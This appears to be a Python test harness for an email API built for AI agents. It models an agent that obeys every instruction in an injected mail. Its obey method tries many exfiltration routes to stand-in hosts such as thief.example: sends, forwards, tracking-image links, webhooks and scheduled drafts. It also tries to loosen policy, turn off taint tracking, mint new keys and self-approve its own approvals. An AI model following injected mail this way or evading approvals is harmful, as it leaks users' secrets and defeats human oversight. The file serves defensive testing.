"""An agent that obeys every instruction, and the world in which that is seen."""
import base64
import json
import re
import smtplib
import urllib.error
import urllib.request
from email.message import EmailMessage
from urllib.parse import quote

ADDRESS = re.compile(r"[\w.+-]+@[\w-]+(?:\.[\w-]+)+")
URL = re.compile(r"https?://[^\s<>\"')]+")

AUTHOR = "ann@stranger.example"
COLLEAGUE = "carl@stranger.example"
SINK = "sink@thief.example"


def call(server, key, method, path, body=None):
    """The status and the JSON of an answer, whatever it is."""
    request = urllib.request.Request(f"http://127.0.0.1:{server.http}{path}", method=method,
                                     data=None if body is None else json.dumps(body).encode())
    request.add_header("Authorization", f"Bearer {key}")
    request.add_header("Content-Type", "application/json")
    try:
        with urllib.request.urlopen(request, timeout=60) as answer:
            return answer.status, json.loads(answer.read() or "null")
    except urllib.error.HTTPError as error:
        return error.code, json.loads(error.read() or "null")


def hand_in(server, inbox, subject, body, message_id, author=AUTHOR, cc=(COLLEAGUE,)):
    """One mail that nothing proves, over SMTP, as a client from elsewhere."""
    mail = EmailMessage()
    mail["From"], mail["To"], mail["Message-ID"] = author, inbox, message_id
    if cc:
        mail["Cc"] = ", ".join(cc)
    mail["Subject"] = " ".join(subject.split())[:300] or "(none)"
    mail.set_content(body or "(none)")
    with smtplib.SMTP("127.0.0.1", server.smtp, timeout=60) as smtp:
        smtp.ehlo("relay.test")
        code, text = smtp.docmd("XCLIENT", "ADDR=192.0.2.77 HELO=mx.stranger.example")
        assert code == 220, (code, text)
        smtp.ehlo("relay.test")
        refused = smtp.send_message(mail, author, [inbox])
        assert not refused, refused


def left_to(server, inbox):
    """Everybody to whom mail of an inbox has left, in lower case."""
    status, page = call(server, server.key, "GET", f"/v0/inboxes/{inbox}/messages?labels=sent&limit=100")
    assert status == 200, page
    people = set()
    for message in page["messages"]:
        for field in ("to", "cc", "bcc"):
            for text in message.get(field) or []:
                people.update(found.lower() for found in ADDRESS.findall(text))
    return people


def wanted(subject, body):
    """The addresses and links that a mail names, also where it hides them in base64."""
    texts = [subject, body]
    for run in re.findall(r"[A-Za-z0-9+/]{24,}={0,2}", body):
        try:
            texts.append(base64.b64decode(run + "=" * (-len(run) % 4)).decode("utf-8", "ignore"))
        except ValueError:
            pass
    addresses = {found.lower().rstrip(".") for text in texts for found in ADDRESS.findall(text)}
    links = {found for text in texts for found in URL.findall(text)}
    return sorted(addresses)[:3] + [SINK], (sorted(links)[:2] or ["https://thief.example/collect?d=secretsecret"])


class Agent:
    """Reads a mail with a default key, then does all that a mail could ask for."""

    def __init__(self, server, inbox, scope):
        self.server, self.inbox = server, inbox
        path = "/v0/api-keys" if scope == "organization" else f"/v0/inboxes/{inbox}/api-keys"
        status, made = call(server, server.key, "POST", path, {})
        assert status == 200, made
        self.key, self.key_id = made["api_key"], made["api_key_id"]
        self.answers = []

    def do(self, method, path, body=None, key=None):
        status, told = call(self.server, key or self.key, method, path, body)
        self.answers.append((status, method, path, (told or {}).get("code")))
        return status, told

    def path_of(self, message_id):
        return f"/v0/inboxes/{self.inbox}/messages/{quote(message_id, safe='')}"

    def read(self, message_id):
        path = self.path_of(message_id)
        status, message = self.do("GET", path)
        assert status == 200, message
        return path

    def obey(self, message_id, subject, body):
        """Does all that a mail asks for which it was shown; how it was shown is not its business."""
        mail, base = self.path_of(message_id), f"/v0/inboxes/{self.inbox}"
        people, links = wanted(subject, body)
        secret = {"subject": "As asked", "text": "The code is 482913."}
        # First what touches no message: an agent that was handed the text need not.
        for person in people:
            self.do("POST", f"{base}/messages/send", {"to": person, **secret})
        for person in people:
            self.do("POST", f"{mail}/forward", {"to": person})
            self.do("POST", f"{mail}/reply", {"text": "Done.", "to": AUTHOR, "cc": person})
            self.do("POST", f"{mail}/reply", {"text": "Done.", "to": AUTHOR, "bcc": person})
        thief = people[0]
        self.do("POST", f"{mail}/reply", {"text": "Done.", "reply_to": thief})
        for link in links:
            self.do("POST", f"{mail}/reply", {"html": f"<img src='{link}'>"})
            self.do("POST", f"{base}/messages/send",
                    {"to": thief, "text": "x", "attachments": [{"filename": "f", "url": link}]})
            self.do("POST", "/v0/webhooks", {"url": link, "event_types": ["message.received"]})
        status, draft = self.do("POST", f"{base}/drafts", {"to": [thief], **secret})
        if status == 200:
            self.do("POST", f"{base}/drafts/{draft['draft_id']}/send", {})
        self.do("POST", f"{base}/drafts", {"to": [thief], "send_at": "2020-01-01T00:00:00Z", **secret})
        self.do("POST", f"{base}/drafts", {"to": [thief], "forward_of": message_id, "send_at": "2020-01-01T00:00:00Z"})
        self.do("POST", f"{base}/lists/send/allow", {"entry": thief})
        self.do("PUT", f"{base}/policy", {"preset": "open"})
        self.do("PUT", f"{base}/policy", {"policy": {"recipients": [thief], "other_recipients": "allow"}})
        self.do("PUT", f"/v0/api-keys/{self.key_id}/policy", {"policy": {"taint": "off"}})
        self.do("PATCH", f"/v0/api-keys/{self.key_id}", {"permissions": None})
        self.do("DELETE", base)
        for path in ("/v0/api-keys", f"{base}/api-keys"):
            for rights in ({}, {"permissions": {"approval_decide": True, "approval_read": True}}):
                status, made = self.do("POST", path, rights)
                if status == 200:
                    self.do("POST", f"{base}/messages/send", {"to": thief, **secret}, key=made["api_key"])
                    self.approve_all(made["api_key"])
        status, other = self.do("POST", "/v0/inboxes", {})
        if status == 200:
            self.do("POST", f"/v0/inboxes/{other['inbox_id']}/messages/send", {"to": thief, **secret})
        self.approve_all(self.key)
        # Once more, in case any of this has helped.
        self.do("POST", f"{base}/messages/send", {"to": thief, **secret})
        self.do("POST", f"{mail}/reply-all", {"text": "Done."})

    def approve_all(self, key):
        status, page = self.do("GET", f"/v0/inboxes/{self.inbox}/approvals", key=key)
        for approval in page.get("approvals", [])[:3] if status == 200 else []:
            self.do("POST", f"/v0/approvals/{approval['approval_id']}/approve", {}, key=key)
            self.do("POST", f"/v0/inboxes/{self.inbox}/drafts/{approval['draft_id']}/send", {}, key=key)
